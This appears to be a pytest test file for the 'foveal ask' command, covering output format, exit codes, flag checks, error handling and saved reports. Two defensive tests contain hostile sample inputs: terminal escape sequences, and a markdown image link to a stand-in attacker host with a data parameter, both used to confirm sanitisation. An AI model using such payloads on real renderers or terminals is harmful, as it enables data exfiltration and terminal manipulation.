"""``foveal ask``: what goes where, what it refuses, how it ends."""

from __future__ import annotations

import json
import sys
from dataclasses import replace
from functools import partial
from pathlib import Path
from typing import Any

import pytest

from foveal.cli import plan_view
from foveal.errors import BackendError, BadImage, IndexMissing, PolicyError
from foveal.types import Citation, Event, Evidence, PlanChange, RoleUsage, SubQuestion, Usage

from .conftest import FakeFoveal, make_answer, make_events


def test_answer_on_stdout_plan_on_stderr(foveal: Any, fake: FakeFoveal, picture: Path) -> None:
    done = foveal("ask", "Which city?", "-i", picture, "-i", picture)
    assert done.code == 0
    assert done.out.splitlines() == [
        "N'Djamena [1]",
        "",
        "Sources",
        "[1] Chad: “N'Djamena is the capital of Chad.”",
        f"    document country:TD | https://example.org/chad | picture {'a' * 64}",
    ]
    for words in (
        "looked: looks like Chad (0.93)",
        "plan: 1 step (model)",
        "s1 started",
        "image_search ok, 2 found, 0.3 s",
        "s1 answered = Chad (0.93)",
        "NEW_HOP: Chad is a country",
        "conflict: two capitals",
        "warning: the picture is small",
        "answered (answered), confidence 0.90; 2 model calls, 2 searches",
    ):
        assert words in done.err
    assert fake.asked == [("Which city?", [picture, picture])]
    assert fake.opened == 0


def test_a_page_of_the_web_has_its_address_once_and_its_dates(foveal: Any, fake: FakeFoveal) -> None:
    url = "https://news.test/mayor"
    found = Evidence("e1", "text", url, "Arx", "Mayor: Eve.", url=url, tool="web", retrieved_at="2026-11-21T10:00:00")
    cited = (Citation(1, "e1", url, "Arx", url, "Mayor: Eve."),)
    fake.script = lambda question: replace(
        make_answer(question), citations=cited, evidence=(replace(found, published_at="2026-10-01"),)
    )
    assert f"    {url} (published 2026-10-01, read 2026-11-21)" in foveal("ask", "Which city?").out.splitlines()


def test_row_31_strict_says_by_the_exit_code_that_a_search_did_not_work(foveal: Any, fake: FakeFoveal) -> None:
    assert foveal("ask", "Which city?", "--strict").code == 0
    down = PlanChange(2, "TOOL_DOWN", "asked of the collection; ddgs did not answer", "s1")
    fake.script = lambda question: replace(make_answer(question), plan_log=(down,))
    assert foveal("ask", "Which city?").code == 0
    assert foveal("ask", "Which city?", "--strict").code == 4
    failed = (SubQuestion("s1", "Which city?", tool="web", status="failed"),)
    fake.script = lambda question: replace(make_answer(question), plan=failed)
    assert foveal("ask", "Which city?", "--strict").code == 4


def test_row_78_no_colour_codes_in_pipes(foveal: Any, fake: FakeFoveal) -> None:
    done = foveal("ask", "Which city?")
    assert "\x1b" not in done.out + done.err


def test_quiet_shows_no_plan(foveal: Any, fake: FakeFoveal) -> None:
    assert foveal("ask", "Which city?", "--quiet").err == ""


def test_json_is_one_object(foveal: Any, fake: FakeFoveal) -> None:
    done = foveal("ask", "Which city?", "--json")
    assert json.loads(done.out) == json.loads(json.dumps(make_answer().as_dict()))
    assert json.loads(done.out)["schema"] == "foveal.answer/1"


def test_picture_of_the_collection_is_given_as_a_file(foveal: Any, fake: FakeFoveal, tmp_path: Path) -> None:
    file = tmp_path / "index" / "blobs" / "aa" / ("a" * 62 + ".png")
    file.parent.mkdir(parents=True)
    file.write_bytes(b"")
    assert f"picture {tmp_path}/index/blobs/aa/" in foveal("ask", "Which city?", "--index", tmp_path / "index").out


def test_flags_become_settings(foveal: Any, fake: FakeFoveal) -> None:
    done = foveal("ask", "Which city?", "--index", "x", "--model", "scripted:f", "--planner-model", "a",
                  "--solver-model", "s", "--answer-model", "b", "--judge-model", "j",
                  "--profile", "fast", "--strategy", "guided", "--max-calls", 7,
                  "--max-usd", 0.5, "--deadline", 9, "--web", "off")  # fmt: skip
    assert done.code == 0
    settings = fake.settings
    assert (settings.index, settings.model, settings.planner_model) == (Path("x"), "scripted:f", "a")
    assert settings.strategy == "guided"
    assert settings.models() == {"planner": "a", "solver": "s", "answerer": "b", "judge": "j"}
    budget = settings.budget()
    assert (budget.model_calls, budget.tool_calls, budget.usd, budget.seconds) == (7, 7, 0.5, 9)
    assert budget.rounds == 2


def test_what_each_role_spent_is_shown_when_there_is_something_to_tell(foveal: Any, fake: FakeFoveal) -> None:
    roles = {"planner": RoleUsage(1, 2100, 0, 80, 0.0123, 1.5), "solver": RoleUsage(4, 900, 300, 20)}
    for models, usd, shown in (
        ({"planner": "big", "solver": "small"}, 0.0, True),
        ({"planner": "big", "solver": "big"}, 0.0123, True),
        ({"planner": "big", "solver": "big"}, 0.0, False),
    ):
        usage = Usage(model_calls=5, usd=usd, roles=roles)
        fake.script = partial(make_answer, usage=usage, config={"models": models})
        told = foveal("ask", "Which city?")
        assert ("planner  big" in told.err and "2100" in told.err and "0.0123" in told.err) is shown
        assert "planner" not in told.out
    assert json.loads(foveal("ask", "Which city?", "--json").out)["usage"]["roles"]["planner"]["usd"] == 0.0123


@pytest.mark.parametrize("question", ["", "   ", "\n\t", "???", "…!", "—", "x" * 9000])
def test_question_without_words(foveal: Any, fake: FakeFoveal, question: str) -> None:
    done = foveal("ask", question)
    assert done.code == 2
    assert done.err.startswith("error: The question ")
    assert done.err.splitlines()[1].startswith("  ")
    assert done.out == "" and fake.asked == []


@pytest.mark.parametrize("question", ["что это?", "これは何?", "7?"])
def test_words_of_any_script_are_words(foveal: Any, fake: FakeFoveal, question: str) -> None:
    assert foveal("ask", question).code == 0


@pytest.mark.parametrize(
    ("image", "words"),
    [
        ("-", "standard input is not supported yet"),
        ("http://example.org/a.png", "from an address is not supported yet"),
        ("HTTPS://example.org/a.png", "from an address is not supported yet"),
        ("file:///a.png", "from an address is not supported yet"),
        ("data:image/png;base64,AAAA", "from an address is not supported yet"),
        ("gone.png", "There is no picture gone.png"),
        ("x" * 5000, "There is no picture"),
        (".", "is a folder"),
    ],
)
def test_pictures_that_cannot_be_used(foveal: Any, fake: FakeFoveal, image: str, words: str) -> None:
    done = foveal("ask", "What is this?", "-i", image)
    assert done.code == 2
    assert words in done.err.splitlines()[0]
    assert done.err.splitlines()[1].startswith("  ")
    assert fake.asked == []


def test_the_web_is_a_list_of_backends(foveal: Any, fake: FakeFoveal) -> None:
    assert foveal("ask", "What is this?", "--web", "ddgs, zim:wiki.zim").code == 0
    assert fake.settings.web == "ddgs,zim:wiki.zim"
    for wrong in ("bing", "ddgs,off", "zim:", ""):
        done = foveal("ask", "What is this?", "--web", wrong)
        assert done.code == 2 and "error: --web: wrong value" in done.err


def test_row_77_wrong_values_of_flags(foveal: Any, fake: FakeFoveal) -> None:
    for flags in (["--profile", "fats"], ["--max-calls", "0"], ["--deadline", "-1"], ["--model", " "]):
        done = foveal("ask", "What is this?", *flags)
        assert done.code == 2 and f"error: {flags[0]}: wrong value" in done.err
    done = foveal("ask", "What is this?", "--max-calls", "many")
    assert done.code == 2 and "foveal ask --help" in done.err


def test_unknown_flag_is_an_error_in_json_too(foveal: Any, fake: FakeFoveal) -> None:
    done = foveal("ask", "x", "--jsom", "--json")
    assert done.code == 2
    assert json.loads(done.out)["error"]["code"] == "bad_input"
    assert "--json" in json.loads(done.out)["error"]["message"]


@pytest.mark.parametrize(
    ("error", "code"),
    [
        (BadImage("flag.png is empty."), 2),
        (IndexMissing("There is no collection in x.", remedy="Make one."), 2),
        (PolicyError("Refused."), 3),
        (BackendError("The server is down.", remedy="Start it."), 4),
    ],
)
def test_errors_have_a_remedy_and_an_exit_code(foveal: Any, fake: FakeFoveal, error: Any, code: int) -> None:
    def fail(question: str) -> Any:
        raise error

    fake.script = fail
    done = foveal("ask", "What is this?", "--json")
    assert done.code == code
    assert json.loads(done.out)["error"] == {
        "code": error.code, "message": error.message, "remedy": error.remedy, "retryable": error.retryable,
    }  # fmt: skip
    assert f"error: {error.message}" in done.err
    assert "Traceback" not in done.err
    assert fake.opened == 0


@pytest.mark.parametrize(
    ("status", "code"),
    [("answered", 0), ("insufficient", 0), ("premise_false", 0), ("failed", 4), ("cancelled", 130)],
)
def test_exit_code_of_each_status(foveal: Any, fake: FakeFoveal, status: str, code: int) -> None:
    fake.script = lambda question: make_answer(question, status=status)
    assert foveal("ask", "What is this?").code == code


def test_bug_is_short_and_its_traceback_on_request(
    foveal: Any, fake: FakeFoveal, monkeypatch: pytest.MonkeyPatch
) -> None:
    def fail(question: str) -> Any:
        raise ZeroDivisionError("by sentinel-key-123")

    fake.script = fail
    monkeypatch.setenv("FOVEAL_OPENAI_API_KEY", "sentinel-key-123")
    done = foveal("ask", "What is this?")
    assert done.code == 4
    assert "this is a bug in Foveal: ZeroDivisionError" in done.err and "Traceback" not in done.err
    shown = foveal("ask", "What is this?", "--debug")
    assert "Traceback" in shown.err
    monkeypatch.setenv("FOVEAL_DEBUG", "1")
    assert "Traceback" in foveal("ask", "What is this?").err
    assert "sentinel" not in done.err + shown.err


def test_run_without_an_end_is_an_error(foveal: Any, fake: FakeFoveal, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sys.modules[FakeFoveal.__module__], "make_events", lambda answer: [])
    assert foveal("ask", "What is this?").code == 4


def test_save_writes_three_files(foveal: Any, fake: FakeFoveal, tmp_path: Path) -> None:
    folder = tmp_path / "a" / "b"
    assert foveal("ask", "Which city?", "--save", folder).code == 0
    answer = json.loads((folder / "answer.json").read_text("utf-8"))
    assert answer["answer"] == "N'Djamena [1]"
    events = [json.loads(line) for line in (folder / "trace.jsonl").read_text("utf-8").splitlines()]
    assert [event["seq"] for event in events] == list(range(1, len(make_events(make_answer())) + 1))
    assert events[-1]["data"]["answer"]["run_id"] == "r1"
    report = (folder / "report.md").read_text("utf-8")
    assert "# Which city?" in report and "**Chad**" in report and "NEW_HOP" not in report
    assert "created one step" in report


def test_save_folder_that_cannot_be_is_known_before_the_run(foveal: Any, fake: FakeFoveal, picture: Path) -> None:
    done = foveal("ask", "Which city?", "--save", picture)
    assert done.code == 2 and "--save" in done.err and fake.asked == []


def test_words_of_documents_cannot_steer_the_terminal(foveal: Any, fake: FakeFoveal) -> None:
    fake.script = lambda question: make_answer(
        question, answer="\x1b[2Jgone\u202e \x9b31m[1]", warnings=("\x1b]0;x\x07",)
    )
    done = foveal("ask", "Which city?")
    assert not {"\x1b", "\x07", "\x9b", "\u202e"}.intersection(done.out + done.err)


def test_report_quotes_markup_of_documents(foveal: Any, fake: FakeFoveal, tmp_path: Path) -> None:
    fake.script = lambda question: make_answer(question, answer="![x](http://evil.example/?d=1) <img src=x>")
    foveal("ask", "Which city?", "--save", tmp_path / "s")
    report = (tmp_path / "s" / "report.md").read_text("utf-8")
    assert "![x]" not in report and "<img" not in report.replace("\\<img", "")


def test_live_tree_changes_with_the_events() -> None:
    from rich.console import Console

    view = plan_view.LiveView("Which city?")
    console = Console(width=100, color_system=None, force_terminal=False)

    def drawn() -> str:
        with console.capture() as capture:
            console.print(view._draw())
        return capture.get()

    events = make_events(make_answer())
    assert "s1" not in drawn()
    for event in events[:4]:
        view.show(event)
    assert "Which country?" in drawn() and "Chad is" not in drawn() and "= Chad" not in drawn()
    for event in events[4:]:
        view.show(event)
    assert "= Chad (0.93)" in drawn() and "NEW_HOP" in drawn() and "version 2" in drawn()
    view.show(Event(99, "warning", {"message": "[bold]not markup[/bold]"}))
    assert "[bold]not markup[/bold]" in drawn()


@pytest.mark.parametrize(
    "kind",
    [
        "perceived",
        "plan.created",
        "plan.changed",
        "subquestion.started",
        "subquestion.finished",
        "tool.returned",
        "warning",
        "answer.final",
        "new.kind",
    ],
)
def test_a_view_outlives_events_without_data(kind: str) -> None:
    plan_view.LineView("q").show(Event(1, kind, {}))
